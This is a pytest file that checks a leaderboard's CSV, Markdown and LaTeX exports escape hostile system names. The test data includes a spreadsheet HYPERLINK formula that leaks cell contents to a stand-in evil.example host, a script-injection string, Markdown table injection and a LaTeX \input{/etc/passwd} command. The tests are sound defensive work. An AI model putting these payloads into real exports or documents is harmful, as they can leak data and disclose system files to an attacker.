"""Participants name their systems, and organizers open the exports in spreadsheets,
Markdown renderers and LaTeX (a system named ``=HYPERLINK(...)`` was a live
formula in the CSV; a newline or ``<script>`` broke or passed into the Markdown)."""

import csv
import io

import pytest

from leaderboard.insights.exports import Table, csv_cell, latex_escape, markdown_escape, to_csv, to_latex, to_markdown
from leaderboard.models import Submission

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE = ["-2+3", "+1", "@SUM(A1)", "\t=1", "\r=1", FORMULA]


def table(name: str) -> Table:
    return Table(
        "caption", ["Rank", "Team", "System", "F"], [[1, "team", name, 0.5], [2, "other", "plain", -0.25]], {3}
    )


@pytest.mark.parametrize("name", HOSTILE)
def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(name):
    rows = list(csv.reader(io.StringIO(to_csv(table(name)), newline="")))
    assert rows[1][2] == "'" + name
    assert rows[2][3] == "-0.25"  # numbers stay numbers, negative ones too


def test_plain_cells_are_left_alone():
    assert [csv_cell(v) for v in ("T5", "a=b", None, 3, 0.5)] == ["T5", "a=b", "", 3, 0.5]


def test_markdown_cells_carry_no_markup_no_html_and_no_line_break():
    hostile = "evil | cell\n| 1 | injected |\n<script>alert(1)</script> *bold* [link](http://x)"
    text = to_markdown(table(hostile))
    row = text.splitlines()[4]
    assert text.count("\n") == 6  # caption, blank, header, rule, two rows: the name added no line
    assert "<script>" not in text and "&lt;script&gt;" in row
    assert row.count(" | ") == 3  # four cells: the name's pipes are escaped
    assert markdown_escape("*a* _b_ `c` [d]") == r"\*a\* \_b\_ \`c\` \[d\]"


def test_latex_cells_escape_commands_and_line_breaks():
    assert (
        latex_escape("\\input{/etc/passwd}\n\nx<y|z")
        == r"\textbackslash{}input\{/etc/passwd\} x\textless{}y\textbar{}z"
    )
    assert "\n\n" not in to_latex(table("a\n\nb"))


@pytest.mark.django_db
def test_the_export_endpoint_neutralises_a_formula_named_system(insight_task, client):
    Submission.objects.filter(pk=insight_task["submissions"]["T5"].pk).update(system_name=FORMULA)
    client.force_login(insight_task["organizer"])
    rows = list(
        csv.reader(io.StringIO(client.get("/api/tasks/insight/leaderboard/export", {"format": "csv"}).content.decode()))
    )
    assert "'" + FORMULA in [r[2] for r in rows] and FORMULA not in [r[2] for r in rows]
